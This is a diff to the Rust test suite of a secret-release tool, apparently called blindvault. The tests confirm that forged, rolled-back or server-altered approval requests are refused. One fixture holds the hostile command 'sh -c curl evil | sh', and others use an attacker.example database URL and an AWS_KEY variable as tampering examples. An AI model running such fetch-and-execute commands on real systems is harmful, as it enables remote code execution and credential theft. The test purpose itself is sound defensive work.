@@ -4,7 +4,7 @@ use crate::util::*;
 use blindvault_core::Error;
 use blindvault_core::entry::{SealedEntry, seal_entry};
 use blindvault_core::identity::{
-    HostCertificate, MAX_CLOCK_SKEW_SECS, MAX_REQUEST_LIFETIME_SECS, SIG_REQUEST_V1, SignedEnrolment,
+    HostCertificate, MAX_CLOCK_SKEW_SECS, MAX_REQUEST_LIFETIME_SECS, SIG_REQUEST_V2, SignedEnrolment,
     SignedRequest, verify_request,
 };
 use blindvault_core::ids::{CertId, EntryId};
@@ -43,7 +43,7 @@ fn any_of_release_end_to_end() {
     let resp = SealedResponse::from_bytes(&resp.to_bytes()).unwrap();
     let release = open_response(&eph, &req, &resp, &approvers[1]).unwrap();
     assert_eq!(release.approver, bob.keys.approver_public());
-    assert_eq!(recover_secret(&[release], None).unwrap().expose(), b"hunter2");
+    assert_eq!(recover_secret(&[release], &entry).unwrap().expose(), b"hunter2");
     // The admin reads the label with the org key.
     assert_eq!(entry.decrypt_label_as_org(&w.org).unwrap().expose(), b"prod database password");
 }
@@ -75,22 +75,16 @@ fn two_of_three_needs_two_people() {
     };
     // One approval releases nothing.
     let r_a = open(&devs[0], "1");
-    assert!(matches!(
-        recover_secret(&[r_a], Some(&entry)),
-        Err(Error::NotEnoughShares { needed: 2, got: 1 })
-    ));
+    assert!(matches!(recover_secret(&[r_a], &entry), Err(Error::NotEnoughShares { needed: 2, got: 1 })));
     // Both devices of one person still count once.
     let both_a = [open(&devs[0], "1"), open(&a2, "2")];
-    assert!(matches!(
-        recover_secret(&both_a, Some(&entry)),
-        Err(Error::NotEnoughShares { needed: 2, got: 1 })
-    ));
+    assert!(matches!(recover_secret(&both_a, &entry), Err(Error::NotEnoughShares { needed: 2, got: 1 })));
     // Two people do.
     let two = [open(&devs[0], "1"), open(&devs[2], "3")];
-    assert_eq!(recover_secret(&two, Some(&entry)).unwrap().expose(), b"s3cret-value");
+    assert_eq!(recover_secret(&two, &entry).unwrap().expose(), b"s3cret-value");
     // Any two.
     let two = [open(&devs[1], "1"), open(&devs[2], "3")];
-    assert_eq!(recover_secret(&two, Some(&entry)).unwrap().expose(), b"s3cret-value");
+    assert_eq!(recover_secret(&two, &entry).unwrap().expose(), b"s3cret-value");
 }
 
 #[test]
@@ -278,10 +272,10 @@ fn a_request_may_lead_the_clock_by_the_skew_and_no_more() {
 }
 
 /// A request as the host's key would sign it by hand, not through `Request::sign`: the
-/// canonical body, `SIG_REQUEST_V1 ‖ body` signed with Ed25519, wrapped as a signed object.
+/// canonical body, `SIG_REQUEST_V2 ‖ body` signed with Ed25519, wrapped as a signed object.
 fn hand_signed(host: &HostSecretKey, body: &[u8]) -> Vec<u8> {
     use ed25519_dalek::Signer as _;
-    let mut m = SIG_REQUEST_V1.to_vec();
+    let mut m = SIG_REQUEST_V2.to_vec();
     m.extend_from_slice(body);
     let sig = ed25519_dalek::SigningKey::from_bytes(host.expose()).sign(&m).to_bytes();
     let mut out = vec![1u8];
@@ -309,8 +303,8 @@ fn an_over_long_request_signed_by_hand_does_not_decode() {
     // differs from a valid request in its lifetime alone.
     assert_eq!(hand_signed(&w.host, body), bytes);
     assert!(verify_request(&org, &w.cert, &SignedRequest::from_bytes(&bytes).unwrap(), NOW).is_ok());
-    // expires_at sits before the 16-byte nonce at the end of the body.
-    let exp = body.len() - 16 - 8;
+    // expires_at follows the version byte, the three ids, the ephemeral key and issued_at.
+    let exp = 1 + 16 + 16 + 16 + 32 + 8;
     assert_eq!(body[exp..exp + 8], (NOW + MAX_REQUEST_LIFETIME_SECS).to_be_bytes());
     for expires_at in [NOW + MAX_REQUEST_LIFETIME_SECS + 1, NOW + 86_000, NOW, NOW - 1] {
         let mut b = body.to_vec();
@@ -438,17 +432,8 @@ fn the_server_cannot_forge_a_release() {
     let rid = req.request.request_id.to_array();
     let eph_pk = req.request.ephemeral_key.to_array();
     let approver = va.public_key().to_array();
-    // Exactly what an honest any-of approval of this request carries, with the server's value.
-    let value = b"postgres://attacker.example/db";
-    let mut payload = vec![1u8];
-    payload.extend_from_slice(&rid);
-    payload.extend_from_slice(&w.entry_id.to_array());
-    payload.extend_from_slice(&1u32.to_be_bytes());
-    payload.extend_from_slice(&Policy::AnyOf { n: 1 }.to_bytes());
-    payload.extend_from_slice(&approver);
-    payload.push(1);
-    payload.extend_from_slice(&(value.len() as u32).to_be_bytes());
-    payload.extend_from_slice(value);
+    // Exactly what an honest any-of approval of this request carries, with a DEK of the server's.
+    let payload = release_payload(&rid, &w.entry_id.to_array(), &approver, &[0x5a; 32]);
     let mut info = INFO_RESPONSE_V2.to_vec();
     info.push(0);
     info.extend_from_slice(&rid);
@@ -506,7 +491,178 @@ fn the_server_cannot_forge_a_release() {
     .unwrap();
     let genuine = response(genuine);
     let rel = open_vouched_response(&eph, &req, &genuine, &delivered, &w.org.public_key()).unwrap();
-    assert_eq!(recover_secret(&[rel], None).unwrap().expose(), value);
+    // …and even then carry only a key, which opens nothing but the org's own ciphertext.
+    let entry = seal_entry(
+        &w.org,
+        w.entry_id,
+        1,
+        Policy::AnyOf { n: 1 },
+        &[va],
+        b"l",
+        b"the org's value",
+        &mut rng("e"),
+    )
+    .unwrap();
+    assert_eq!(recover_secret(&[rel], &entry).err(), Some(Error::Decrypt));
+}
+
+/// The payload of an any-of release (encoding version 2) carrying `dek`, as a forger writes it.
+fn release_payload(rid: &[u8; 16], entry: &[u8; 16], approver: &[u8; 32], dek: &[u8; 32]) -> Vec<u8> {
+    let mut payload = vec![2u8];
+    payload.extend_from_slice(rid);
+    payload.extend_from_slice(entry);
+    payload.extend_from_slice(&1u32.to_be_bytes());
+    payload.extend_from_slice(&Policy::AnyOf { n: 1 }.to_bytes());
+    payload.extend_from_slice(approver);
+    payload.push(1);
+    payload.extend_from_slice(dek);
+    payload
+}
+
+/// Seals `payload` as a response from `dev` (its own key: a genuine sender) to `req`.
+fn response_from(dev: &Device, req: &SignedRequest, payload: &[u8], seed: &str) -> SealedResponse {
+    use blindvault_core::hpke;
+    use blindvault_core::release::INFO_RESPONSE_V2;
+    let rid = req.request.request_id.to_array();
+    let pk = dev.keys.approver_public().to_array();
+    let mut info = INFO_RESPONSE_V2.to_vec();
+    info.push(0);
+    info.extend_from_slice(&rid);
+    let c = hpke::seal_auth(
+        &req.request.ephemeral_key.to_array(),
+        (dev.keys.approver_secret().expose(), &pk),
+        &info,
+        &pk,
+        payload,
+        &mut rng(seed),
+    )
+    .unwrap();
+    let mut b = vec![1u8];
+    b.extend_from_slice(&rid);
+    b.extend_from_slice(&pk);
+    b.extend_from_slice(&c.enc);
+    b.extend_from_slice(&(c.ct.len() as u32).to_be_bytes());
+    b.extend_from_slice(&c.ct);
+    SealedResponse::from_bytes(&b).unwrap()
+}
+
+/// Protocol v1's any-of payload: the value itself (`0x01 ‖ … ‖ 0x01 ‖ u32 len ‖ value`).
+fn v1_value_payload(rid: &[u8; 16], entry: &[u8; 16], approver: &[u8; 32], value: &[u8]) -> Vec<u8> {
+    let mut payload = vec![1u8];
+    payload.extend_from_slice(rid);
+    payload.extend_from_slice(entry);
+    payload.extend_from_slice(&1u32.to_be_bytes());
+    payload.extend_from_slice(&Policy::AnyOf { n: 1 }.to_bytes());
+    payload.extend_from_slice(approver);
+    payload.push(1);
+    payload.extend_from_slice(&(value.len() as u32).to_be_bytes());
+    payload.extend_from_slice(value);
+    payload
+}
+
+/// One approver of a 2-of-3 entry (a genuine, org-vouched device holding a share) answers with
+/// an any-of release carrying a value — or a key — of their choosing, hoping the consumer takes
+/// it when the honest second approval arrives. Nothing they send chooses what the command gets:
+/// the v1 value form is refused, an any-of claim does not match the org-signed entry's policy,
+/// and the honest approval alone is not enough.
+#[test]
+fn one_approver_cannot_choose_the_value_of_an_m_of_n_entry() {
+    let w = World::new("collude-mofn");
+    let devs = [Device::new("a", 1), Device::new("b", 2), Device::new("c", 3)];
+    let approvers: Vec<_> = devs.iter().map(|d| d.verified(&w.org)).collect();
+    let entry = seal_entry(
+        &w.org,
+        w.entry_id,
+        1,
+        Policy::MOfN { m: 2, n: 3 },
+        &approvers,
+        b"l",
+        b"the org's value",
+        &mut rng("seal"),
+    )
+    .unwrap();
+    let (eph, req) = w.request("req");
+    let rid = req.request.request_id.to_array();
+    let eid = w.entry_id.to_array();
+    let mallory = &devs[0];
+    let mpk = mallory.keys.approver_public().to_array();
+    let honest = {
+        let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
+        let r = approve(devs[1].keys.approver_secret(), &v, &entry, &mut rng("b")).unwrap();
+        open_response(&eph, &req, &r, &approvers[1]).unwrap()
+    };
+    // The value itself (protocol v1's any-of form): no longer a release at all.
+    let v1 = v1_value_payload(&rid, &eid, &mpk, b"postgres://attacker.example/db");
+    let r = response_from(mallory, &req, &v1, "v1");
+    assert_eq!(open_response(&eph, &req, &r, &approvers[0]).err(), Some(Error::Decrypt));
+    // A key of their choosing under an any-of policy: opens, and is refused against the entry.
+    let forged = release_payload(&rid, &eid, &mpk, &[0x5a; 32]);
+    let r = response_from(mallory, &req, &forged, "dek");
+    let rel = open_response(&eph, &req, &r, &approvers[0]).unwrap();
+    assert_eq!(recover_secret(&[rel], &entry).err(), Some(Error::ShareMismatch));
+    let rel = open_response(&eph, &req, &r, &approvers[0]).unwrap();
+    assert_eq!(recover_secret(&[honest, rel], &entry).err(), Some(Error::ShareMismatch));
+}
+
+/// With a colluding server (which delivers any response it likes), an org-vouched approver of
+/// an any-of entry who holds no envelope of it — never sealed to, or removed before this
+/// version — cannot release it, and one who does hold an envelope can only release the DEK that
+/// opens the org's ciphertext, never a value of their own.
+#[test]
+fn an_any_of_release_opens_only_the_org_signed_value() {
+    let w = World::new("collude-anyof");
+    let (a, outsider) = (Device::new("a", 1), Device::new("outsider", 2));
+    let entry = seal_entry(
+        &w.org,
+        w.entry_id,
+        1,
+        Policy::AnyOf { n: 1 },
+        &[a.verified(&w.org)],
+        b"l",
+        b"the org's value",
+        &mut rng("seal"),
+    )
+    .unwrap();
+    let (eph, req) = w.request("req");
+    let rid = req.request.request_id.to_array();
+    let eid = w.entry_id.to_array();
+    // The outsider is vouched for by the org (a genuine enrolment), but was not sealed to.
+    let opk = outsider.keys.approver_public().to_array();
+    let r = response_from(&outsider, &req, &release_payload(&rid, &eid, &opk, &[7; 32]), "o");
+    let delivered = [outsider.enrolment(&w.org)];
+    let rel = open_vouched_response(&eph, &req, &r, &delivered, &w.org.public_key()).unwrap();
+    assert!(matches!(recover_secret(&[rel], &entry), Err(Error::Mismatch { .. })));
+    // The v1 value form from the outsider: not a release.
+    let r = response_from(&outsider, &req, &v1_value_payload(&rid, &eid, &opk, b"evil"), "o1");
+    assert_eq!(
+        open_vouched_response(&eph, &req, &r, &delivered, &w.org.public_key()).err(),
+        Some(Error::Decrypt)
+    );
+    // The sealed-to approver with a key of their own: the org's ciphertext does not open.
+    let apk = a.keys.approver_public().to_array();
+    let r = response_from(&a, &req, &release_payload(&rid, &eid, &apk, &[9; 32]), "a");
+    let rel = open_response(&eph, &req, &r, &a.verified(&w.org)).unwrap();
+    assert_eq!(recover_secret(&[rel], &entry).err(), Some(Error::Decrypt));
+    // An entry the org did not write is refused before any key is tried.
+    let other_org = OrgSecretKey::generate(&mut rng("other"));
+    let foreign = seal_entry(
+        &other_org,
+        w.entry_id,
+        1,
+        Policy::AnyOf { n: 1 },
+        &[a.verified(&other_org)],
+        b"l",
+        b"x",
+        &mut rng("f"),
+    )
+    .unwrap();
+    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
+    let honest = approve(a.keys.approver_secret(), &v, &entry, &mut rng("h")).unwrap();
+    let rel = open_response(&eph, &req, &honest, &a.verified(&w.org)).unwrap();
+    assert_eq!(recover_secret(&[rel], &foreign).err(), Some(Error::BadSignature { link: "entry" }));
+    // The control: the honest release opens the org's value.
+    let rel = open_response(&eph, &req, &honest, &a.verified(&w.org)).unwrap();
+    assert_eq!(recover_secret(&[rel], &entry).unwrap().expose(), b"the org's value");
 }
 
 /// Anyone can seal an envelope to an enrolled approver key, so the server can store an entry of
@@ -592,8 +748,122 @@ fn an_entry_the_org_did_not_sign_is_refused() {
     unsigned[0] = 1;
     let unsigned = SealedEntry::from_bytes(&unsigned).unwrap();
     assert_eq!(
-        recover_secret(&rels(&[&a, &b]), Some(&unsigned)).err(),
+        recover_secret(&rels(&[&a, &b]), &unsigned).err(),
         Some(Error::BadSignature { link: "entry" })
     );
-    assert_eq!(recover_secret(&rels(&[&a, &b]), Some(&two)).unwrap().expose(), b"v");
+    assert_eq!(recover_secret(&rels(&[&a, &b]), &two).unwrap().expose(), b"v");
+}
+
+/// The approver sees what will run: the purpose is signed by the host key. A server that edits
+/// it (another command, another variable, a longer lease) breaks the request's signature, and
+/// the device shows nothing as verified.
+#[test]
+fn a_purpose_the_server_altered_fails_on_the_device() {
+    use blindvault_core::identity::Purpose;
+    let w = World::new("purpose");
+    let (_eph, req) = w.request("r");
+    let org = w.org.public_key();
+    let v = verify_request(&org, &w.cert, &req, NOW).unwrap();
+    assert_eq!(v.purpose(), &purpose());
+    let edits = [
+        Purpose::Run {
+            command: vec!["sh".into(), "-c".into(), "curl evil | sh".into()],
+            env: vec!["DB".into()],
+            lease_secs: 900,
+        },
+        Purpose::Run {
+            command: vec!["./migrate.sh".into(), "--apply".into()],
+            env: vec!["DB".into(), "AWS_KEY".into()],
+            lease_secs: 900,
+        },
+        Purpose::Run {
+            command: vec!["./migrate.sh".into(), "--apply".into()],
+            env: vec!["DB".into()],
+            lease_secs: 30 * 86_400,
+        },
+        Purpose::Inject { template_sha256: [0; 32], out: "/tmp/x".into() },
+    ];
+    for p in edits {
+        let mut edited = req.clone();
+        edited.request.purpose = p;
+        // Through the bytes, as a device receives it.
+        let edited = SignedRequest::from_bytes(&edited.to_bytes()).unwrap();
+        assert_eq!(
+            verify_request(&org, &w.cert, &edited, NOW).err(),
+            Some(Error::BadSignature { link: "request" })
+        );
+    }
+    // And the poll token's hash, for the same reason (a front-runner's own token).
+    let mut edited = req.clone();
+    edited.request.poll_token_hash = [0; 32];
+    assert_eq!(
+        verify_request(&org, &w.cert, &edited, NOW).err(),
+        Some(Error::BadSignature { link: "request" })
+    );
+}
+
+/// A purpose past its limits is refused when signing and when decoding; control characters in
+/// a command line are allowed (they are the host's to give) but only ever shown inert.
+#[test]
+fn purpose_limits() {
+    use blindvault_core::identity::{MAX_PURPOSE_ARGS, Purpose, Request};
+    let w = World::new("purpose-limits");
+    let (_eph, req) = w.request("r");
+    let sign = |p: Purpose| Request { purpose: p, ..req.request.clone() }.sign(&w.host);
+    assert!(sign(Purpose::Run { command: vec![], env: vec![], lease_secs: 1 }).is_err());
+    assert!(
+        sign(Purpose::Run { command: vec!["x".into(); MAX_PURPOSE_ARGS + 1], env: vec![], lease_secs: 1 })
+            .is_err()
+    );
+    assert!(sign(Purpose::Run { command: vec!["x".repeat(2000)], env: vec![], lease_secs: 1 }).is_err());
+    assert!(
+        sign(Purpose::Run { command: vec!["x".into()], env: vec!["NOT VALID".into()], lease_secs: 1 })
+            .is_err()
+    );
+    assert!(
+        sign(Purpose::Run { command: vec!["echo".into(), "a\u{202E}b".into()], env: vec![], lease_secs: 1 })
+            .is_ok()
+    );
+}
+
+/// Rollback: an older version of an entry is still org-signed, so only the host's signed memory
+/// of the newest version it received tells it apart. A request with `min_version = 2` cannot be
+/// approved with version 1 (say one still sealed to an approver removed since), and a release
+/// of version 1 is refused by the consumer even if a device sealed one.
+#[test]
+fn an_entry_older_than_the_host_has_received_is_refused() {
+    use blindvault_core::identity::Request;
+    let w = World::new("rollback");
+    let a = Device::new("a", 1);
+    let seal = |version: u32, value: &[u8]| {
+        seal_entry(
+            &w.org,
+            w.entry_id,
+            version,
+            Policy::AnyOf { n: 1 },
+            &[a.verified(&w.org)],
+            b"l",
+            value,
+            &mut rng("s"),
+        )
+        .unwrap()
+    };
+    let (v1, v2) = (seal(1, b"old password"), seal(2, b"new password"));
+    let (eph, req) = w.request("r");
+    let req = Request { min_version: 2, ..req.request.clone() }.sign(&w.host).unwrap();
+    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
+    assert_eq!(v.min_version(), 2);
+    assert!(matches!(approve(a.keys.approver_secret(), &v, &v1, &mut rng("1")), Err(Error::Mismatch { .. })));
+    // The consumer too: a release of version 1 (which a device sealed anyway) is refused.
+    let apk = a.keys.approver_public().to_array();
+    let payload = release_payload(&req.request.request_id.to_array(), &w.entry_id.to_array(), &apk, &[9; 32]);
+    let r = response_from(&a, &req, &payload, "old");
+    assert_eq!(
+        open_response(&eph, &req, &r, &a.verified(&w.org)).err(),
+        Some(Error::Mismatch { what: "entry version is older than the host has received (rollback)" })
+    );
+    // Version 2 (and later) opens.
+    let r = approve(a.keys.approver_secret(), &v, &v2, &mut rng("3")).unwrap();
+    let rel = open_response(&eph, &req, &r, &a.verified(&w.org)).unwrap();
+    assert_eq!(recover_secret(&[rel], &v2).unwrap().expose(), b"new password");
 }
